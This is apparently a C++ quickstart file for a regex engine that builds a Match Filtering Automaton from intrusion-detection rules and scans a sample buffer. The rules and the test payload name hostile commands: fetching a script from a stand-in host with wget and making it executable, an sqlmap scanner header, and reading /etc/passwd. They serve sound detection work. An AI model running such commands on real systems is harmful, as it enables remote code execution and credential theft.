// Quickstart: compile a handful of security patterns into a Match Filtering
// Automaton and scan a buffer.
//
//   $ ./quickstart
//
// Walks through the whole public API surface in ~40 lines: parse patterns,
// build the MFA, inspect the decomposition, scan, and read match results.
#include <cstdio>

#include "mfa/mfa.h"
#include "regex/parser.h"

int main() {
  using namespace mfa;

  // 1. A small rule set in the paper's idiom: dot-star, almost-dot-star,
  //    and a plain string, each reporting its own match id.
  const std::vector<std::string> rules = {
      ".*wget.*chmod",             // download-then-make-executable
      ".*User-Agent:[^\r\n]*sqlmap",  // scanner UA on one header line
      ".*etc/passwd",              // classic path probe
  };
  std::vector<nfa::PatternInput> patterns;
  for (std::size_t i = 0; i < rules.size(); ++i)
    patterns.push_back({regex::parse_or_die(rules[i]), static_cast<std::uint32_t>(i + 1)});

  // 2. Build the MFA: splitter -> piece DFA -> filter program.
  core::BuildStats stats;
  auto mfa = core::build_mfa(patterns, {}, &stats);
  if (!mfa) {
    std::fprintf(stderr, "construction failed (piece DFA exceeded the state cap)\n");
    return 1;
  }
  std::printf("built MFA in %.3fs: %u DFA states, %zu pieces, %u filter bits\n\n",
              stats.seconds, mfa->character_dfa().state_count(), mfa->pieces().size(),
              mfa->program().memory_bits);

  // 3. Show the decomposition the splitter chose.
  std::printf("decomposed pieces and filter actions:\n");
  for (const auto& piece : mfa->pieces()) {
    const auto& action = mfa->program().actions[piece.engine_id];
    std::printf("  piece %u: %-34s  %s\n", piece.engine_id, piece.regex.source.c_str(),
                action.to_pseudocode().c_str());
  }

  // 4. Scan a payload.
  const std::string payload =
      "GET /download?f=tool HTTP/1.1\r\n"
      "User-Agent: sqlmap/1.0-dev\r\n\r\n"
      "...wget http://evil.example/x.sh; chmod +x x.sh...cat /etc/passwd";
  Scanner scanner(*mfa);
  const MatchVec matches = scanner.scan(payload);

  std::printf("\nscanning %zu bytes -> %zu matches:\n", payload.size(), matches.size());
  for (const Match& m : matches)
    std::printf("  rule %u (%s) matched ending at offset %llu\n", m.id,
                rules[m.id - 1].c_str(), static_cast<unsigned long long>(m.end));
  return 0;
}
